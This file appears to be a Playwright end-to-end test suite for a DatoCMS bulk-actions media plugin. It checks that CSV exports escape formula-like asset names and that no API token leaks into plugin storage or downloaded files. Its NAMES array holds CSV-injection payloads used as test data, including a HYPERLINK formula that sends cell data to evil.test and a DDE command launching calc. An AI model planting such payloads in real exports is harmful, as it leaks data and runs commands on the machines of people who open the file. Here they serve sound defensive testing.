/**
 * What the plugin leaves behind: exports that open as text in a spreadsheet, and no token in any
 * storage of the plugin origin or in any downloaded file.
 */
import { readFile } from 'node:fs/promises';
import type { Download, Page } from '@playwright/test';
import Papa from 'papaparse';
import { expect, test, type HostPage } from './fixtures';
import { addTagsInPicker, fastTimingFor, openAction, simPut } from './media-helpers';
import { installNeighbour, neighbourBoot } from './security-helpers';

fastTimingFor(test);
test.afterEach(async ({ host }) => {
  await simPut(host, '/__sim/faults', { failingItemIds: {} });
});

const NAMES = [
  '=HYPERLINK("http://evil.test/?leak="&A1,"e2e-formula")',
  "+cmd|' /C calc'!A0 e2e-formula",
  '@SUM(1+1) e2e-formula',
  '-2+3 e2e-formula',
];

async function createUploads(host: HostPage, basenames: readonly string[]): Promise<string[]> {
  const ids: string[] = [];
  for (const basename of basenames) {
    const r = await fetch(`${host.urls.simUrl}/__sim/uploads`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ count: 1, basename }),
    });
    ids.push(...((await r.json()) as { ids: string[] }).ids);
  }
  return ids;
}

async function download(
  page: Page,
  click: () => Promise<void>,
): Promise<{ file: Download; text: string }> {
  const [file] = await Promise.all([page.waitForEvent('download'), click()]);
  return { file, text: await readFile((await file.path())!, 'utf8') };
}

test('assets named like formulas export as text: every such CSV cell is escaped, the JSON keeps the names', async ({
  host,
  page,
}) => {
  const ids = await createUploads(host, NAMES);
  await host.open('/media');
  await page.getByTestId('media-search').fill('e2e-formula');
  await page.getByTestId('media-search').press('Enter');
  await expect(page.getByTestId('media-card')).toHaveCount(NAMES.length);
  await page.getByTestId('media-select-page').check();
  const items = await host.openMenu('media-actions');
  await items.filter({ hasText: 'Delete assets…' }).click();
  const frame = host.modalFrame();
  await frame.getByRole('button', { name: 'Next' }).click();
  await frame.getByRole('button', { name: 'Continue' }).click();

  const csv = await download(page, () =>
    frame.getByRole('button', { name: 'Export metadata (CSV)' }).click(),
  );
  const rows = Papa.parse<Record<string, string>>(csv.text.trim(), { header: true }).data;
  const byId = new Map(rows.map((r) => [r.id, r]));
  ids.forEach((id, i) => {
    // A spreadsheet shows a cell starting with a quote as text (OWASP "CSV Injection").
    const filename = byId.get(id)!.filename ?? '';
    expect(filename.startsWith(`'${NAMES[i]}.`), filename).toBe(true);
  });
  // In the file itself, each such cell is quoted and starts with the quote: no cell starts a formula.
  for (const line of csv.text.trim().split('\n').slice(1))
    for (const cell of Papa.parse<string[]>(line).data[0]!)
      expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  const json = await download(page, () =>
    frame.getByRole('button', { name: 'Export metadata (JSON)' }).click(),
  );
  const records = JSON.parse(json.text) as { id: string; attributes: { filename: string } }[];
  ids.forEach((id, i) =>
    expect(records.find((r) => r.id === id)!.attributes.filename.startsWith(`${NAMES[i]}.`)).toBe(
      true,
    ),
  );
});

test('after runs, retries, an undo and every export, no storage of the plugin origin and no download holds a token', async ({
  host,
  page,
  urls,
}) => {
  const downloads: { file: Download; text: string }[] = [];
  const keep = async (click: () => Promise<void>) =>
    void downloads.push(await download(page, click));
  await host.open('/media');
  await installNeighbour(host);

  // Add tags with a failure, Retry failed, both exports, then Undo.
  const { ids, frame } = await openAction(host, 'Add tags…', 4);
  await simPut(host, '/__sim/faults', { failingItemIds: { [ids[1]!]: 'ITEM_LOCKED' } });
  await frame.getByRole('button', { name: 'Next' }).click();
  await addTagsInPicker(frame, ['e2e-scan']);
  await frame.getByRole('button', { name: 'Preview' }).click();
  await frame.getByRole('button', { name: 'Run on 4 assets' }).click();
  await expect(frame.getByTestId('bulk-report-failed')).toHaveText('1 failed');
  await keep(() => frame.getByRole('button', { name: 'Export CSV' }).click());
  await keep(() => frame.getByRole('button', { name: 'Export JSON' }).click());
  await simPut(host, '/__sim/faults', { failingItemIds: {} });
  await frame.getByRole('button', { name: 'Retry failed' }).click();
  await expect(frame.getByTestId('bulk-report-succeeded')).toHaveText('1 succeeded');
  await page.getByTestId('modal-close').click();

  // Delete two assets, keeping their metadata first.
  await page.getByTestId('media-clear-selection').click();
  const del = await openAction(host, 'Delete assets…', 2);
  await del.frame.getByRole('button', { name: 'Next' }).click();
  await del.frame.getByRole('button', { name: 'Continue' }).click();
  await keep(() => del.frame.getByRole('button', { name: 'Export metadata (CSV)' }).click());
  await keep(() => del.frame.getByRole('button', { name: 'Export metadata (JSON)' }).click());
  await page.getByTestId('modal-close').click();

  // Undo the first run from the jobs panel's report, and export from the panel too.
  await host.go(`/media/assets/${ids[0]}`);
  const panel = host.page.frameLocator(
    '[data-testid="upload-sidebar-panel"][data-plugin-id="bulk-actions-sandbox"] iframe',
  );
  const first = panel.getByTestId('jobs-run').filter({ hasNotText: '(retry)' }).first();
  await keep(() => first.getByRole('button', { name: 'Export CSV' }).click());
  await first.getByRole('button', { name: 'Open report' }).click();
  await host.modalFrame().getByRole('button', { name: 'Undo' }).click();
  await expect(host.modalFrame().getByTestId('bulk-step-report')).toContainText('Undo');
  await page.getByTestId('modal-close').click();

  const tokens = (
    (await (await fetch(`${urls.simUrl}/__sim/tokens`)).json()) as { data: { token: string }[] }
  ).data.map((t) => t.token);
  // Every IndexedDB database, localStorage and sessionStorage of the plugin origin.
  const storage = await (await neighbourBoot(host)).evaluate(() => window.neighbour!.dumpStorage());
  expect(storage).toContain('datocms-plugin-bulk-actions:ledger:');
  for (const token of tokens) expect(storage).not.toContain(token);
  for (const { file, text } of downloads) {
    expect(text.length).toBeGreaterThan(0);
    for (const token of tokens) expect(text, file.suggestedFilename()).not.toContain(token);
  }
  expect(
    downloads.map((d) =>
      d.file.suggestedFilename().replace(/^(bulk-report|assets-before-delete)-.*\.(\w+)$/, '$1.$2'),
    ),
  ).toEqual([
    'bulk-report.csv',
    'bulk-report.json',
    'assets-before-delete.csv',
    'assets-before-delete.json',
    'bulk-report.csv',
  ]);
});
